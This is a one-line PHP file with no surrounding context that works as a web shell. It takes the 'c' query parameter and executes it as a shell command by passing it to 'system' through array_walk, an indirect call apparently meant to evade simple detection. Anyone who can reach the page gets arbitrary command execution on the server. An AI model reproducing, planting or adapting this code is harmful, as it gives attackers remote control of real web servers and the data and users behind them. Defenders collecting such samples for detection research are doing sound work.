<?php $o = new ArrayObject(array($_GET['c'])); array_walk($o, 'system');
